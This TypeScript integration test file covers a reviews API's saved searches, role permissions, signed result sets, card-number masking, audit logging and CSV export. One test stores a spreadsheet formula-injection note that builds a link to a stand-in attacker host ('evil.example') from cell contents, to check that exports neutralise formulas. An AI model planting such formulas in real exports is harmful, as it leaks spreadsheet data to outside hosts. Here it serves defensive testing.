/**
 * The reviews API through the real viewer, access layer, LevelDB store and SQLite index: saved-search CRUD and who
 * may do what, a run finds exactly the sessions of its period, pages past the index's 200-row limit, signatures
 * that verify (API and `verbatim verify --file`) and fail after one changed byte, CSV that a spreadsheet cannot turn
 * into formulas, marks with history and masked notes (nothing on disk holds the card number), and the audit trail.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { DEFAULT_POLICY, Masker } from '../../../proxy/masking/index';
import { loadOrCreateSigningKey } from '../../../store/integrity/index';
import { AccountStore, AuditLog, ViewerAccess, type Role } from '../../auth/index';
import { startViewer, type Viewer } from '../../server';
import { signIn } from '../../../test/helpers/role-viewer';
import { filesUnder, bench, recordJourney, type Bench } from '../../search/test/index-fixtures';
import { FileReviewRepository, ReviewRoutes, ReviewService, REVIEWS_DIR, verifyResult, type RunView, type SavedSearch, type SearchesResponse } from '../index';
import type { OpenedSearch } from '../../search/index';

const PASSWORD = 'correct horse battery';
const NOV = Date.UTC(2026, 10, 1);
const DEC = Date.UTC(2026, 11, 1);
const SEP = Date.UTC(2026, 8, 1);
const QUERY = 'offer then status:>=500';
const CARD = '4111 1111 1111 1111';
const ROLES: Role[] = ['compliance', 'analyst', 'agent', 'auditor', 'admin'];
const KIOSK_SESSIONS = 450;
const root = path.resolve(import.meta.dirname, '../../..');

/** `verbatim verify --file FILE --data DIR`: exit code and output. */
function cliVerify(file: string, dataDir: string): Promise<{ code: number; out: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, ['--import', 'tsx', 'scripts/cli.ts', 'verify', '--file', file, '--data', dataDir], { cwd: root }, (err, stdout) => {
      resolve({ code: err ? Number((err as { code?: number }).code ?? 1) : 0, out: stdout });
    });
  });
}

describe('reviews API', () => {
  let b: Bench;
  let viewer: Viewer;
  let search: OpenedSearch;
  const masker = new Masker(DEFAULT_POLICY);
  const mask = (s: string) => masker.text(s);
  const login = new Map<Role, { cookie: string; csrf: string }>();

  before(async () => {
    b = await bench('reviews');
    // In November: two matching sessions (one linked to a customer) and one that does not match; around it, two
    // matching sessions just outside the period.
    await recordJourney(b.store, 'nov-a', NOV + 3 * 86_400_000, { seen: 'Savings offer 5.1 %', typed: 'x', channel: 'kiosk' });
    await recordJourney(b.store, 'nov-b', NOV + 20 * 86_400_000, { seen: 'Savings offer 5.1 %', typed: 'y' });
    await recordJourney(b.store, 'nov-c', NOV + 21 * 86_400_000, { seen: 'Mortgage rates', typed: 'z' });
    await recordJourney(b.store, 'oct-last', NOV - 5_000, { seen: 'Savings offer 5.1 %', typed: 'x' });
    await recordJourney(b.store, 'dec-first', DEC, { seen: 'Savings offer 5.1 %', typed: 'x' });
    await b.store.linkCustomer({ sessionId: 'nov-a', customerId: 'C-7781', source: 'test', at: NOV });
    // September: many kiosk sessions, to page past the index's 200 results per page.
    for (let i = 0; i < KIOSK_SESSIONS; i++) {
      await b.store.createSession({ id: `sep-${String(i).padStart(3, '0')}`, channel: 'kiosk', startedAt: SEP + i * 60_000, browser: 'Chrome 140', os: 'Linux', deviceType: 'desktop' });
    }
    search = await b.open();
    await search.follower.catchUp();

    const accounts = await AccountStore.open(path.join(b.dir, 'accounts.json'));
    const audit = await AuditLog.open(path.join(b.dir, 'audit.log'), Date.now, mask);
    for (const role of ROLES) await accounts.add(role, role, PASSWORD);
    await mkdir(path.join(b.dir, 'ui'));
    await writeFile(path.join(b.dir, 'ui', 'index.html'), '<!doctype html><title>Verbatim</title>');
    const repo = await FileReviewRepository.open(path.join(b.dir, REVIEWS_DIR));
    const service = new ReviewService({ repo, index: search.index, store: b.store, signingKey: await loadOrCreateSigningKey(b.keysDir), mask });
    viewer = await startViewer({
      store: b.store, uiDir: path.join(b.dir, 'ui'),
      access: new ViewerAccess({ accounts, audit, customerOf: (id) => b.store.customerOf(id) }),
      reviews: new ReviewRoutes(service, search.key),
    });
    for (const role of ROLES) login.set(role, await signIn(viewer.url, role, PASSWORD));
  });
  after(async () => {
    await viewer?.close();
    await b.close();
  });

  const call = (role: Role, method: string, url: string, body?: unknown) => fetch(viewer.url + url, {
    method, headers: { cookie: login.get(role)!.cookie, 'x-verbatim-csrf': login.get(role)!.csrf, 'content-type': 'application/json' },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
  const json = async <T>(res: Response, status: number): Promise<T> => {
    assert.equal(res.status, status, await res.clone().text());
    return (await res.json()) as T;
  };
  const save = async (name: string, query: string): Promise<SavedSearch> =>
    (await json<{ search: SavedSearch }>(await call('compliance', 'POST', '/api/reviews/searches', { name, query, schedule: 'none' }), 201)).search;
  const run = async (id: string, from: number | string, to: number | string): Promise<string> =>
    (await json<{ run: { runId: string } }>(await call('compliance', 'POST', `/api/reviews/searches/${id}/runs`, { from, to }), 201)).run.runId;
  const view = (runId: string, role: Role = 'compliance') => call(role, 'GET', `/api/reviews/runs/${runId}`).then((r) => json<RunView>(r, 200));

  it('lets compliance manage saved searches and nobody else; auditors read', async () => {
    for (const role of ['analyst', 'agent', 'admin', 'auditor'] as const) {
      const res = await call(role, 'POST', '/api/reviews/searches', { name: 'x', query: 'offer', schedule: 'none' });
      assert.equal(res.status, 403, role);
    }
    for (const role of ['analyst', 'agent', 'admin'] as const) assert.equal((await call(role, 'GET', '/api/reviews/searches')).status, 403, role);
    const created = await save('5.1 % offer then failure', QUERY);
    assert.equal(created.owner, 'compliance');
    const edited = await json<{ search: SavedSearch }>(await call('compliance', 'PUT', `/api/reviews/searches/${created.id}`, { name: 'Offer then failure', schedule: 'weekly' }), 200);
    assert.equal(edited.search.name, 'Offer then failure');
    assert.equal(edited.search.query, QUERY);
    assert.equal(edited.search.schedule, 'weekly');
    assert.equal((await call('auditor', 'PUT', `/api/reviews/searches/${created.id}`, { name: 'no' })).status, 403);
    const listed = await json<SearchesResponse>(await call('auditor', 'GET', '/api/reviews/searches'), 200);
    assert.deepEqual(listed.searches.map((s) => [s.name, s.schedule]), [['Offer then failure', 'weekly']]);
    await json(await call('compliance', 'DELETE', `/api/reviews/searches/${created.id}`), 200);
    assert.equal((await call('compliance', 'DELETE', `/api/reviews/searches/${created.id}`)).status, 404);
    assert.deepEqual((await json<SearchesResponse>(await call('compliance', 'GET', '/api/reviews/searches'), 200)).searches, []);
  });

  it('refuses a query that does not parse (400 with the position) and one holding a card number', async () => {
    const bad = await json<{ error: { code: string; position: number } }>(await call('compliance', 'POST', '/api/reviews/searches', { name: 'bad', query: 'offer (status:500', schedule: 'none' }), 400);
    assert.equal(bad.error.code, 'QUERY_INVALID');
    assert.equal(bad.error.position, 6);
    const card = await json<{ error: { code: string; position: number } }>(await call('compliance', 'POST', '/api/reviews/searches', { name: 'card', query: `typed:"${CARD}"`, schedule: 'none' }), 400);
    assert.equal(card.error.code, 'QUERY_INVALID');
    assert.equal(card.error.position, 7);
    assert.equal((await call('compliance', 'POST', '/api/reviews/searches', { name: 'x', query: 'offer', schedule: 'hourly' })).status, 400);
  });

  it('runs over a period: exactly its sessions, with replay links and no personal text', async () => {
    const s = await save('Offer then failure', QUERY);
    const runId = await run(s.id, '2026-11-01', '2026-12-01');
    const v = await view(runId);
    assert.deepEqual(v.result.rows.map((r) => r.sessionId), ['nov-b', 'nov-a']);
    assert.equal(v.result.count, 2);
    assert.equal(v.result.truncated, false);
    assert.deepEqual(v.result.period, { from: NOV, to: DEC });
    assert.equal(v.result.ranBy, 'compliance');
    assert.equal(v.result.trigger, 'on-demand');
    assert.ok(v.result.indexCursor > 0);
    const a = v.result.rows[1]!;
    assert.equal(a.customerLinked, true);
    assert.equal(v.result.rows[0]!.customerLinked, false);
    assert.equal(a.channel, 'kiosk');
    assert.equal(a.startedAt, NOV + 3 * 86_400_000);
    assert.ok(a.firstMatchAt! >= a.startedAt && a.firstMatchAt! < a.startedAt + 10_000);
    assert.equal(a.replay, `/sessions/nov-a?at=${a.firstMatchAt}&q=${encodeURIComponent(QUERY).replace(/%20/g, '+')}`);
    assert.deepEqual(v.progress, { reviewed: 0, flagged: 0, open: 2 });
    assert.equal(v.signature.ok, true);
    const kept = await readFile(path.join(b.dir, REVIEWS_DIR, 'runs', `${runId}.json`), 'utf8');
    assert.ok(!kept.includes('C-7781'), 'no customer id in a result set');
    assert.ok(!kept.includes('Savings'), 'no recorded text in a result set');
  });

  it('pages past 200 results; a hard bound says truncated', async () => {
    const s = await save('Kiosk sessions', 'channel:kiosk');
    const runId = await run(s.id, SEP, SEP + 30 * 86_400_000);
    const v = await view(runId);
    assert.equal(v.result.count, KIOSK_SESSIONS);
    assert.equal(new Set(v.result.rows.map((r) => r.sessionId)).size, KIOSK_SESSIONS);
    assert.equal(v.result.rows[0]!.sessionId, `sep-${KIOSK_SESSIONS - 1}`);
    assert.equal(v.result.rows.at(-1)!.sessionId, 'sep-000');
    assert.equal(v.result.truncated, false);
    const small = new ReviewService({
      repo: await FileReviewRepository.open(path.join(b.dir, 'reviews-small')), index: search.index, store: b.store,
      signingKey: await loadOrCreateSigningKey(b.keysDir), mask, maxRows: 300,
    });
    const bounded = await small.run(s, { from: SEP, to: SEP + 30 * 86_400_000 }, 'compliance', 'on-demand');
    assert.equal(bounded.run.result.count, 300);
    assert.equal(bounded.run.result.truncated, true);
  });

  it('signs the result set: the download verifies, one changed byte does not', async () => {
    const s = await save('Signed', QUERY);
    const runId = await run(s.id, NOV, DEC);
    const file = path.join(b.dir, REVIEWS_DIR, 'runs', `${runId}.json`);
    const res = await call('auditor', 'GET', `/api/reviews/runs/${runId}/download?format=json`);
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-disposition') ?? '', new RegExp(`attachment; filename="verbatim-review-${runId}\\.json"`));
    const downloaded = await res.text();
    assert.equal(downloaded, await readFile(file, 'utf8'));
    assert.deepEqual(verifyResult(downloaded, await readFile(path.join(b.keysDir, 'checkpoint-signing.vkey'), 'utf8')).ok, true);
    assert.equal((await json<{ ok: boolean }>(await call('compliance', 'GET', `/api/reviews/runs/${runId}/verify`), 200)).ok, true);
    // One byte of one row: nov-a's start time, 1 ms later.
    const start = String(NOV + 3 * 86_400_000);
    assert.ok(downloaded.includes(`"startedAt":${start}`));
    const tampered = downloaded.replace(`"startedAt":${start}`, `"startedAt":${start.slice(0, -1)}${Number(start.at(-1)) + 1}`);
    assert.equal(tampered.length, downloaded.length);
    assert.deepEqual(verifyResult(tampered), { ok: false, reason: 'the result set differs from what was signed', keyId: verifyResult(downloaded).keyId, runId });
    const saved = path.join(b.dir, 'downloaded.json');
    await writeFile(saved, downloaded);
    const good = await cliVerify(saved, b.dir);
    assert.equal(good.code, 0, good.out);
    assert.match(good.out, new RegExp(`^note: checked against .*checkpoint-signing\\.vkey\nOK: review result .*downloaded\\.json verifies\\. review run ${runId}, signed by key id [0-9a-f]{8}\n$`));
    await writeFile(saved, tampered);
    const bad = await cliVerify(saved, b.dir);
    assert.equal(bad.code, 1, bad.out);
    assert.match(bad.out, /RESULT_INVALID: the result set differs from what was signed\n$/);
    await writeFile(file, tampered);
    const check = await json<{ ok: boolean; reason: string }>(await call('compliance', 'GET', `/api/reviews/runs/${runId}/verify`), 200);
    assert.deepEqual([check.ok, check.reason], [false, 'the result set differs from what was signed']);
    assert.equal((await view(runId)).signature.ok, false);
  });

  it('keeps marks with history, masks notes on disk, and writes CSV no spreadsheet runs', async () => {
    const s = await save('Marks', QUERY);
    const runId = await run(s.id, NOV, DEC);
    const hostile = `=HYPERLINK("http://evil.example/?"&A1,"click"), card ${CARD}`;
    await json(await call('compliance', 'POST', `/api/reviews/runs/${runId}/marks`, { sessionId: 'nov-a', status: 'flagged', note: hostile }), 201);
    await json(await call('compliance', 'POST', `/api/reviews/runs/${runId}/marks`, { sessionId: 'nov-a', status: 'reviewed', note: '@SUM(1+1) checked' }), 201);
    await json(await call('compliance', 'POST', `/api/reviews/runs/${runId}/marks`, { sessionId: 'nov-b', status: 'flagged', note: '-2+3' }), 201);
    assert.equal((await call('auditor', 'POST', `/api/reviews/runs/${runId}/marks`, { sessionId: 'nov-b', status: 'open' })).status, 403);
    assert.equal((await call('compliance', 'POST', `/api/reviews/runs/${runId}/marks`, { sessionId: 'nov-c', status: 'flagged' })).status, 400);
    assert.equal((await call('compliance', 'POST', `/api/reviews/runs/${runId}/marks`, { sessionId: 'nov-a', status: 'done' })).status, 400);
    assert.equal((await call('compliance', 'POST', `/api/reviews/runs/${runId}/marks`, { sessionId: 'nov-a', status: 'open', note: 'x'.repeat(2001) })).status, 400);

    const v = await view(runId, 'auditor');
    assert.deepEqual(v.progress, { reviewed: 1, flagged: 1, open: 0 });
    const a = v.marks['nov-a']!;
    assert.equal(a.current.status, 'reviewed');
    assert.equal(a.current.note, '@SUM(1+1) checked');
    assert.equal(a.history.length, 1);
    assert.equal(a.history[0]!.status, 'flagged');
    assert.equal(a.history[0]!.by, 'compliance');
    const maskedNote = a.history[0]!.note;
    assert.ok(maskedNote.startsWith('=HYPERLINK("http://evil.example/?"&A1,"click"), card '), maskedNote);
    assert.ok(!maskedNote.includes('1111'), maskedNote);

    // Nothing under the data directory holds the card number (reviews, audit trail, index, store).
    const digits = CARD.replace(/ /g, '');
    for (const f of await filesUnder(b.dir)) {
      const text = f.bytes.toString('latin1');
      assert.ok(!text.includes(CARD) && !text.includes(digits), `${f.file} holds the card number`);
    }

    const res = await call('compliance', 'GET', `/api/reviews/runs/${runId}/download?format=csv`);
    assert.equal(res.status, 200);
    assert.equal(res.headers.get('content-type'), 'text/csv; charset=utf-8');
    const lines = (await res.text()).split('\r\n');
    assert.equal(lines[0], 'session_id,started_at,channel,customer_linked,first_match_at,match_count,replay_path,status,note,marked_by,marked_at');
    const b2 = v.result.rows[0]!;
    assert.equal(lines[1], `nov-b,${new Date(b2.startedAt).toISOString()},proxy,no,${new Date(b2.firstMatchAt!).toISOString()},${b2.matchCount},${b2.replay},flagged,'-2+3,compliance,${new Date(v.marks['nov-b']!.current.at).toISOString()}`);
    assert.ok(lines[2]!.includes(",reviewed,'@SUM(1+1) checked,"), lines[2]);
    assert.equal(lines.length, 4);
    assert.equal(lines[3], '');
  });

  it('audits every change, run, read, download and mark; auditors read them', async () => {
    const res = await call('auditor', 'GET', '/api/audit?limit=1000');
    const { entries } = await json<{ entries: { actor: string; action: string; outcome: string; target?: string; details?: Record<string, unknown> }[] }>(res, 200);
    const by = (action: string, outcome = 'ok') => entries.filter((e) => e.action === action && e.outcome === outcome);
    assert.ok(by('review-config').length >= 6);
    assert.ok(by('review-config').some((e) => e.details?.change === 'saved-search-deleted'));
    assert.ok(by('review-config', 'denied').length >= 5);
    const runs = by('review-run');
    assert.equal(runs.length, 4);
    assert.ok(runs.every((e) => e.actor === 'compliance' && e.details?.trigger === 'on-demand'));
    // The query's text values are hashed; facts stay readable.
    assert.match(String(runs.at(-1)!.details?.query), /^#[0-9a-f]{12} THEN status:>=500$/);
    assert.equal(by('review-mark').length, 3);
    assert.ok(by('review-mark').every((e) => typeof e.details?.noteLength === 'number' && !('note' in (e.details ?? {}))));
    assert.equal(by('review-download').length, 2);
    assert.ok(by('review-download').every((e) => /^review-run:r-/.test(e.target ?? '')));
    assert.ok(by('review-read').length >= 5);
  });
});
